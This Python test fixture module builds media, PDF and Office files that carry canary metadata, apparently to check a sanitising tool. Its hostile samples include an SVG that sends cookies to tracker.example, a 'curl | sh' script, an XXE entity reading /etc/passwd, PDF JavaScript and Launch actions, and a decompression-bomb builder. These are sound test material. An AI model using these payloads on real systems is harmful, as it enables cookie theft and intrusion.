"""Files as phones, cameras and attackers make them, built in the test, each carrying canaries.

Every builder returns bytes in which the canary is visible as plain bytes (so a test can first
assert it is there, then that the cleaned copy does not have it).
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import av
import pikepdf
import pillow_heif
from PIL import Image, PngImagePlugin

CANARY = "CANARY-MEDIA-5e2f"
LOCATION_CANARY = "+12.3456+098.7654/"
# The colour of the top-left corner, to see which way a picture was turned.
CORNER = (250, 10, 10)
BODY = (20, 40, 200)

pillow_heif.register_heif_opener()


def _exif(orientation: int = 1) -> bytes:
    exif = Image.Exif()
    exif[0x010F] = CANARY  # Make
    exif[0x0110] = CANARY + "-model"  # Model
    exif[0x0131] = CANARY + "-software"
    exif[0x0112] = orientation
    exif[0x8825] = {1: "N", 2: (39.0, 54.0, 27.0), 3: "E", 4: (116.0, 23.0, 17.0)}  # GPS
    return exif.tobytes()


def picture(size: tuple[int, int] = (64, 32), mode: str = "RGB") -> Image.Image:
    """A picture whose top-left 8x8 corner is red and the rest blue."""
    colour: tuple[int, ...] = BODY if mode == "RGB" else (*BODY, 255)
    corner: tuple[int, ...] = CORNER if mode == "RGB" else (*CORNER, 255)
    image = Image.new(mode, size, colour)
    image.paste(Image.new(mode, (8, 8), corner), (0, 0))
    return image


def _save(image: Image.Image, fmt: str, **options: object) -> bytes:
    out = io.BytesIO()
    image.save(out, format=fmt, **options)
    return out.getvalue()


def jpeg(orientation: int = 1, size: tuple[int, int] = (64, 32)) -> bytes:
    return _save(picture(size), "JPEG", exif=_exif(orientation), comment=CANARY.encode())


def mpo() -> bytes:
    """A multi-picture JPEG (as Android's Ultra HDR and 3D cameras write), two pictures."""
    second = Image.new("RGB", (64, 32), (0, 255, 0))
    data = _save(picture(), "MPO", save_all=True, append_images=[second], exif=_exif())
    assert Image.open(io.BytesIO(data)).format == "MPO"
    return data


def png_with_text() -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", CANARY)
    info.add_itxt("Description", CANARY + "-itxt")
    info.add_text("Comment", CANARY * 4, zip=True)  # zTXt: the canary is compressed here
    return _save(picture(), "PNG", pnginfo=info, exif=_exif())


def webp_with_exif() -> bytes:
    return _save(picture(), "WEBP", exif=_exif(), xmp=_xmp())


def heic(orientation: int = 1) -> bytes:
    return _save(picture(), "HEIF", exif=_exif(orientation), xmp=_xmp(), quality=90)


def avif() -> bytes:
    return _save(picture(), "AVIF", exif=_exif(), xmp=_xmp())


def tiff(orientation: int = 1) -> bytes:
    return _save(picture(), "TIFF", exif=_exif(orientation))


def gif() -> bytes:
    return _save(picture(), "GIF", comment=CANARY.encode())


def bmp() -> bytes:
    return _save(picture(), "BMP")


def jpeg2000() -> bytes:
    return _save(picture(), "JPEG2000")


def png_rgba() -> bytes:
    return _save(picture(mode="RGBA"), "PNG", exif=_exif())


def _xmp() -> bytes:
    return (
        b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/'
        b'22-rdf-syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/">'
        b"<dc:creator>" + CANARY.encode() + b"-xmp</dc:creator></rdf:Description></rdf:RDF>"
        b"</x:xmpmeta>"
    )


def png(width: int, height: int, *, colour_type: int = 0, depth: int = 1) -> bytes:
    """A valid PNG of one colour, built row by row (the test never holds its pixels): with
    huge dimensions, a decompression bomb of a few hundred kilobytes."""
    channels = {0: 1, 2: 3, 6: 4}[colour_type]
    row = b"\x00" + bytes((width * channels * depth + 7) // 8)
    compressor = zlib.compressobj(9)
    body = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    header = struct.pack(">IIBBBBB", width, height, depth, colour_type, 0, 0, 0)
    signature = b"\x89PNG\r\n\x1a\n"
    return signature + chunk(b"IHDR", header) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


# --- PDF ------------------------------------------------------------------------------------


def pdf(text: bytes = b"PDF-BODY-KEEP", *, active: str | None = None) -> bytes:
    """A one-page PDF with the canary as author, in XMP, as a comment's author, and in the EXIF
    of a photo on the page; `active` adds one thing that makes a PDF act on its own."""
    document = pikepdf.new()
    document.add_blank_page(page_size=(200, 200))
    document.docinfo["/Author"] = CANARY
    document.docinfo["/Creator"] = CANARY + "-creator"
    with document.open_metadata(set_pikepdf_as_editor=False) as meta:
        meta["dc:creator"] = [CANARY + "-xmp"]
    page = document.pages[0]
    photo = pikepdf.Stream(document, jpeg())
    photo.Type, photo.Subtype = pikepdf.Name.XObject, pikepdf.Name.Image
    photo.Width, photo.Height, photo.BitsPerComponent = 64, 32, 8
    photo.ColorSpace, photo.Filter = pikepdf.Name.DeviceRGB, pikepdf.Name.DCTDecode
    page.obj.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=photo))
    page.obj.Contents = document.make_stream(
        b"q 64 0 0 32 10 10 cm /Im0 Do Q BT /F1 12 Tf 20 150 Td (" + text + b") Tj ET"
    )
    comment = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Text,
        Rect=[10, 10, 30, 30],
        T=pikepdf.String(CANARY + "-commenter"),
        Contents=pikepdf.String("a reviewer note"),
    )
    page.obj.Annots = document.make_indirect(pikepdf.Array([comment]))
    document.trailer.ID = pikepdf.Array([pikepdf.String(CANARY), pikepdf.String(CANARY)])
    if active == "javascript":
        document.Root.OpenAction = pikepdf.Dictionary(
            S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")
        )
    elif active == "launch":
        comment.A = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("calc.exe"))
    elif active == "attachment":
        document.attachments["run.exe"] = pikepdf.AttachedFileSpec(document, b"MZ payload")
    elif active == "open_uri":
        document.Root.OpenAction = pikepdf.Dictionary(
            S=pikepdf.Name.URI, URI=pikepdf.String("https://tracker.example/x")
        )
    elif active == "page_action":
        page.obj.AA = pikepdf.Dictionary(
            O=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("x"))
        )
    out = io.BytesIO()
    document.save(out, compress_streams=False, static_id=True)
    return out.getvalue()


def pdf_with_password() -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as document:
        document.save(out, encryption=pikepdf.Encryption(user="secret", owner="secret"))
    return out.getvalue()


# --- Office ---------------------------------------------------------------------------------

_CT_HEAD = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
    '<Default Extension="jpeg" ContentType="image/jpeg"/>'
    '<Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-'
    'package.core-properties+xml"/><Override PartName="/docProps/app.xml" ContentType='
    '"application/vnd.openxmlformats-officedocument.extended-properties+xml"/>'
    '<Override PartName="/docProps/custom.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.custom-properties+xml"/>'
)
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
_MAIN = {
    "docx": (
        "word/document.xml",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
    ),
    "docm": ("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"),
    "xlsx": (
        "xl/workbook.xml",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
    ),
    "pptx": (
        "ppt/presentation.xml",
        "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
    ),
}
_BODY = {
    "word/document.xml": (
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        '<w:body><w:p w:rsidR="00C4A1F2" w:rsidRDefault="00C4A1F2"><w:ins w:id="1" w:author='
        '"{c}-reviser" w:date="2026-03-01T10:00:00Z"><w:r><w:t>OFFICE-BODY-KEEP</w:t></w:r>'
        "</w:ins></w:p></w:body></w:document>"
    ),
    "xl/workbook.xml": (
        '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:mc='
        '"http://schemas.openxmlformats.org/markup-compatibility/2006" xmlns:x15ac="http://'
        'schemas.microsoft.com/office/spreadsheetml/2010/11/ac"><mc:AlternateContent><mc:Choice '
        'Requires="x15"><x15ac:absPath url="C:\\Users\\{c}\\Documents\\"/></mc:Choice>'
        "</mc:AlternateContent><sheets/><definedNames><definedName>OFFICE-BODY-KEEP"
        "</definedName></definedNames></workbook>"
    ),
    "ppt/presentation.xml": (
        '<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main">'
        '<p:notesSz cx="1" cy="1"/><!-- OFFICE-BODY-KEEP --></p:presentation>'
    ),
}
_CORE = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<cp:coreProperties xmlns:cp='
    '"http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc='
    '"http://purl.org/dc/elements/1.1/"><dc:creator>{c}</dc:creator><cp:lastModifiedBy>{c}'
    "</cp:lastModifiedBy></cp:coreProperties>"
)
_APP = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Properties xmlns="http://'
    'schemas.openxmlformats.org/officeDocument/2006/extended-properties"><Company>{c}'
    "</Company><Manager>{c}</Manager></Properties>"
)
_CUSTOM = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Properties xmlns="http://'
    'schemas.openxmlformats.org/officeDocument/2006/custom-properties"><property name="Owner">'
    "<vt:lpwstr>{c}</vt:lpwstr></property></Properties>"
)


def office(
    kind: str = "docx", *, extra: dict[str, bytes | str] | None = None, rels: str = ""
) -> bytes:
    """A minimal docx, docm, xlsx or pptx whose properties, custom properties, a reviser and a
    picture's EXIF carry the canary; `extra` adds parts, `rels` relationships of the main
    part."""
    main, main_type = _MAIN[kind]
    folder = main.split("/")[0]
    body = _BODY[main].replace("{c}", CANARY)
    content_types = _CT_HEAD + f'<Override PartName="/{main}" ContentType="{main_type}"/></Types>'
    package_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://'
        'schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{_REL}officeDocument" Target="{main}"/>'
        '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/'
        'relationships/metadata/core-properties" Target="docProps/core.xml"/>'
        f'<Relationship Id="rId3" Type="{_REL}extended-properties" Target="docProps/app.xml"/>'
        f'<Relationship Id="rId4" Type="{_REL}custom-properties" Target="docProps/custom.xml"/>'
        "</Relationships>"
    )
    main_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://'
        'schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId9" Type="{_REL}image" Target="media/image1.jpeg"/>'
        f"{rels}</Relationships>"
    )
    parts: dict[str, bytes | str] = {
        "[Content_Types].xml": content_types,
        "_rels/.rels": package_rels,
        main: body,
        f"{folder}/_rels/{main.split('/')[1]}.rels": main_rels,
        f"{folder}/media/image1.jpeg": jpeg(),
        "docProps/core.xml": _CORE.replace("{c}", CANARY),
        "docProps/app.xml": _APP.replace("{c}", CANARY),
        "docProps/custom.xml": _CUSTOM.replace("{c}", CANARY),
        **(extra or {}),
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def zip_of(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


# --- video ----------------------------------------------------------------------------------


def video(container: str = "mp4", *, audio: bool = True, picture_track: bool = True) -> bytes:
    """A second of MPEG-4 video (and AAC sound) with a canary location, title and handler.

    MOV carries the location as Apple's `©xyz` atom; MP4 as a metadata key (FFmpeg writes MP4
    metadata that way when asked for `use_metadata_tags`), both readable in the bytes.
    """
    out = io.BytesIO()
    options = {"movflags": "use_metadata_tags"} if container == "mp4" else {}
    with av.open(out, mode="w", format=container, options=options) as target:
        target.metadata["location"] = LOCATION_CANARY
        target.metadata["title"] = CANARY
        target.metadata["make"] = CANARY + "-make"
        stream = target.add_stream("mpeg4", rate=10) if picture_track else None
        sound = target.add_stream("aac", rate=8000) if audio else None
        if stream is not None:
            stream.width, stream.height, stream.pix_fmt = 64, 48, "yuv420p"
            stream.metadata["handler_name"] = CANARY + "-handler"
            for index in range(10):
                frame = av.VideoFrame(64, 48, "yuv420p")
                for plane in frame.planes:
                    plane.update(bytes([index * 20 % 256]) * plane.buffer_size)
                frame.pts = index
                target.mux(stream.encode(frame))
            target.mux(stream.encode(None))
        if sound is not None:
            for index in range(8):
                chunk = av.AudioFrame(format="fltp", layout="mono", samples=1024)
                chunk.sample_rate = 8000
                for plane in chunk.planes:
                    plane.update(bytes(plane.buffer_size))
                chunk.pts = index * 1024
                target.mux(sound.encode(chunk))
            target.mux(sound.encode(None))
    return out.getvalue()


# The transformation matrix of a track turned 90 degrees, as a phone held upright writes it.
ROTATED_90 = bytes.fromhex("00000000 00010000 00000000 ffff0000 00000000 00000000 00000000")


def track_matrix(data: bytes) -> bytes:
    """The first track's transformation matrix (tkhd, version 0), its 36 bytes."""
    at = data.index(b"tkhd") + 4 + 40
    return data[at : at + 36]


def rotated(data: bytes) -> bytes:
    """The video with its first track turned 90 degrees."""
    at = data.index(b"tkhd") + 4 + 40
    return data[:at] + ROTATED_90 + bytes(4) + bytes.fromhex("40000000") + data[at + 36 :]


def packets(data: bytes) -> dict[str, int]:
    """How many packets each kind of stream holds."""
    counts: dict[str, int] = {}
    with av.open(io.BytesIO(data)) as source:
        for packet in source.demux():
            if packet.dts is not None:
                counts[packet.stream.type] = counts.get(packet.stream.type, 0) + 1
    return counts


# --- hostile files ---------------------------------------------------------------------------

SVG = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b"<script>fetch('https://tracker.example/'+document.cookie)</script>"
    b"<metadata>" + CANARY.encode() + b"</metadata></svg>"
)
HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script>" + CANARY.encode() + b"</body></html>"
XML = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
# A Windows program: the DOS header with its stub, then the PE header it points to.
EXE = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\x00\x00" + bytes(200) + CANARY.encode()
ELF = b"\x7fELF\x02\x01\x01" + bytes(100)
MACH_O = b"\xcf\xfa\xed\xfe" + bytes(100)
SCRIPT = b"#!/bin/sh\ncurl https://tracker.example/ | sh\n"
SHORTCUT = b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F" + bytes(60)
RAR = b"Rar!\x1a\x07\x01\x00" + bytes(40)
SEVEN_ZIP = b"7z\xbc\xaf\x27\x1c" + bytes(40)
GZIP = b"\x1f\x8b\x08\x00" + bytes(40)
MP3 = b"ID3\x04\x00\x00\x00\x00\x00\x00" + bytes(100)
OGG = b"OggS\x00\x02" + bytes(100)
WAV = b"RIFF\x24\x00\x00\x00WAVEfmt " + bytes(40)
FLAC = b"fLaC" + bytes(40)
LEGACY_DOC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100)
ENCRYPTED_DOCX = LEGACY_DOC + "EncryptedPackage".encode("utf-16-le") + bytes(20)
RTF = b"{\\rtf1\\ansi{\\info{\\author " + CANARY.encode() + b"}}hello}"
TEXT = ("A plain note: the van comes on Tuesdays. 卡车每周二来。\n").encode()


def apk() -> bytes:
    return zip_of({"AndroidManifest.xml": b"\x03\x00", "classes.dex": b"dex\n035\x00"})


def jar() -> bytes:
    return zip_of({"META-INF/MANIFEST.MF": b"Main-Class: X\n", "X.class": b"\xca\xfe\xba\xbe"})


def plain_zip() -> bytes:
    return zip_of({"evidence/photo.jpg": jpeg()})


def dng() -> bytes:
    """A TIFF whose first directory says it is a DNG (tag 50706) and a preview (tag 254)."""
    return _save(picture(), "TIFF", tiffinfo={50706: b"\x01\x04\x00\x00", 254: 1})
